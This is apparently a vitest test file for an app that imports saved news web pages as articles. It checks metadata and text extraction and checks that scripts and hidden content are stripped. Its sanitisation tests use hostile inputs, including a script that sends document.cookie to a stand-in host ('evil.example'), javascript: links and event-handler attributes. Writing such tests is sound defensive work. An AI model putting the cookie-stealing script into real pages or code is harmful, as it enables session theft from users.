import { readdirSync } from 'node:fs'
import { parseHTML } from 'linkedom'
import { describe, expect, it } from 'vitest'
import { parseDate } from '../../../renderer/src/domain/import/dates'
import { parseHtmlArticle } from '../../../renderer/src/domain/import/html'
import { isHiddenElement, textFromNode } from '../../../renderer/src/domain/import/htmlText'
import { normaliseBody } from '../../../renderer/src/domain/import/normaliseText'
import { ImportRejection } from '../../../renderer/src/domain/import/types'
import { describeWithFixtures, FIXTURES_DIR, fixturePath, fixtureText } from './fixtures'

interface ExpectedMetadata {
  title: string
  byline: string | null
  lang?: string
  siteName: string | null
  publishedTime: string | null
}

const squash = (text: string): string => text.replace(/\s+/g, ' ').trim()

/** Text a reader never sees in the saved page: scripts, styles, templates and hidden nodes. */
function invisibleText(html: string): string[] {
  const { document } = parseHTML(html)
  const chunks: string[] = []
  for (const element of Array.from(document.querySelectorAll('script, style, template, [hidden], [aria-hidden="true"], [style]'))) {
    const name = element.localName
    if (name === 'script' || name === 'style' || name === 'template' || isHiddenElement(element)) {
      for (const line of (element.textContent ?? '').split(/\n|;|\{|\}/)) {
        const chunk = squash(line)
        if (chunk.length >= 12) chunks.push(chunk)
      }
    }
  }
  return chunks
}

const cases = FIXTURES_DIR ? readdirSync(fixturePath('html-news'), { withFileTypes: true }).filter((entry) => entry.isDirectory()).map((entry) => entry.name) : []

describeWithFixtures('saved web pages (fixtures/html-news, Readability test pages)', () => {
  it('has all 13 cases', () => {
    expect(cases).toHaveLength(13)
  })

  for (const name of cases) {
    describe(name, () => {
      const source = FIXTURES_DIR ? fixtureText('html-news', name, 'source.html') : ''
      const expected = (FIXTURES_DIR ? JSON.parse(fixtureText('html-news', name, 'expected-metadata.json')) : {}) as ExpectedMetadata
      const extraction = FIXTURES_DIR ? parseHtmlArticle(source, { fileName: `${name}.html` }) : null

      it('matches the expected title, byline, site and date where the fixture has them', () => {
        const { article, byline } = extraction!
        if (expected.title) expect(article.title).toBe(expected.title)
        else expect(article.title).not.toBe('')
        if (expected.byline) {
          expect(byline).toBe(expected.byline)
          expect(article.author).toBe(expected.byline.replace(/^by\s+/i, ''))
        }
        if (expected.siteName) expect(article.source).toBe(expected.siteName)
        if (expected.publishedTime) expect(article.publishedAt).toBe(parseDate(expected.publishedTime))
        if (expected.lang) expect(article.language.toLowerCase()).toBe(expected.lang.toLowerCase())
        expect(article.direction).toBe('ltr')
      })

      it('extracts the same text as the reader-view reference', () => {
        const reference = normaliseBody(textFromNode(parseHTML(`<!doctype html><html><body>${fixtureText('html-news', name, 'expected.html')}</body></html>`).document.body))
        expect(squash(extraction!.article.body)).toBe(squash(reference))
        expect(extraction!.article.body).not.toBe('')
      })

      it('lets no script, style or hidden text into the body', () => {
        const body = squash(extraction!.article.body)
        const visible = squash(fixtureText('html-news', name, 'expected.html').replace(/<[^>]+>/g, ' '))
        for (const chunk of invisibleText(source)) {
          if (visible.includes(chunk)) continue
          expect(body.includes(chunk), `"${chunk.slice(0, 60)}" leaked into the body`).toBe(false)
        }
        expect(body).not.toMatch(/<script|<style|javascript:|onerror=|onclick=/i)
        if (name === 'hidden-nodes') {
          // Its hidden paragraphs repeat the visible one word for word: only one copy may land.
          expect(body.match(/Stet clita kasd gubergren/g)).toHaveLength(3)
        }
      })
    })
  }
})

describe('sanitising pages the fixtures do not cover', () => {
  const page = (body: string, head = ''): string => `<!doctype html><html lang="en"><head><title>Test page</title>${head}</head><body>${body}</body></html>`

  it('refuses a page that is all scripts, with the reason', () => {
    const scripts = Array.from({ length: 40 }, (_, index) => `<script>var x${index} = document.cookie; fetch("https://evil.example/" + x${index})</script>`).join('\n')
    expect(() => parseHtmlArticle(page(`${scripts}<style>body{display:none}</style><noscript>Enable JavaScript</noscript>`))).toThrow(ImportRejection)
    expect(() => parseHtmlArticle(page(scripts))).toThrow(/no readable text: only scripts, styles or hidden content \(40 scripts\)/)
  })

  it('drops hidden nodes, event handlers, embedded objects and form controls', () => {
    const article = parseHtmlArticle(
      page(`
        <article>
          <h1>Militias pause attacks</h1>
          <p onclick="steal()">The militias said on Monday that they would pause their attacks against Israel, a senior official told reporters in Baghdad.</p>
          <p style="display: none">HIDDEN-STYLE text that must not appear anywhere in the body of the imported article at all.</p>
          <p style="visibility:hidden">HIDDEN-VISIBILITY text that must not appear anywhere in the body of the imported article.</p>
          <div hidden>HIDDEN-ATTRIBUTE text that must not appear anywhere in the body of the imported article at all.</div>
          <span aria-hidden="true">HIDDEN-ARIA</span>
          <p>They also said <a href="javascript:alert(1)">the statement</a> would be read on radio <iframe src="https://evil.example"></iframe>later that day, according to the movement's own channel.</p>
          <svg><text>SVG-TEXT</text></svg><math><mi>MATH-TEXT</mi></math>
          <form><input value="INPUT-VALUE"><textarea>TEXTAREA-TEXT</textarea><button>BUTTON-TEXT</button></form>
          <template><p>TEMPLATE-TEXT</p></template>
        </article>`),
    )
    expect(article.article.body).toContain('The militias said on Monday')
    expect(article.article.body).toContain('They also said the statement would be read on radio later that day')
    for (const leak of ['HIDDEN-STYLE', 'HIDDEN-VISIBILITY', 'HIDDEN-ATTRIBUTE', 'HIDDEN-ARIA', 'SVG-TEXT', 'MATH-TEXT', 'INPUT-VALUE', 'TEXTAREA-TEXT', 'BUTTON-TEXT', 'TEMPLATE-TEXT', 'javascript', 'steal()']) {
      expect(article.article.body).not.toContain(leak)
    }
  })

  it('reads an Arabic page as right-to-left Arabic, with its date from a meta tag', () => {
    const paragraphs = Array.from({ length: 6 }, () => '<p>قال وزير الخارجية السعودي عادل الجبير اليوم إن المملكة العربية السعودية ترحب بأي اتفاق يمنع إيران من امتلاك السلاح النووي، وإن الرياض ستواصل التشاور مع حلفائها في المنطقة.</p>').join('')
    const { article } = parseHtmlArticle(`<!doctype html><html lang="ar" dir="rtl"><head><title>الجبير: نرحب بأي اتفاق</title><meta name="date" content="2015-07-23"></head><body><article>${paragraphs}</article></body></html>`)
    expect(article.language).toBe('ar')
    expect(article.direction).toBe('rtl')
    expect(article.publishedAt).toBe('2015-07-23')
    expect(article.title).toBe('الجبير: نرحب بأي اتفاق')
  })

  it('takes the canonical http(s) URL and ignores others', () => {
    const body = '<article><p>' + 'The talks resumed in the capital on Monday after a week of delays. '.repeat(10) + '</p></article>'
    expect(parseHtmlArticle(page(body, '<link rel="canonical" href="https://news.example/a/1">')).article.url).toBe('https://news.example/a/1')
    expect(parseHtmlArticle(page(body, '<link rel="canonical" href="javascript:alert(1)">')).article.url).toBe('')
  })

  it('falls back to the visible text of a fragment without a document', () => {
    const extraction = parseHtmlArticle('<p>Short note.</p><p>Second line.</p>')
    expect(extraction.article.body).toBe('Short note.\n\nSecond line.')
  })
})
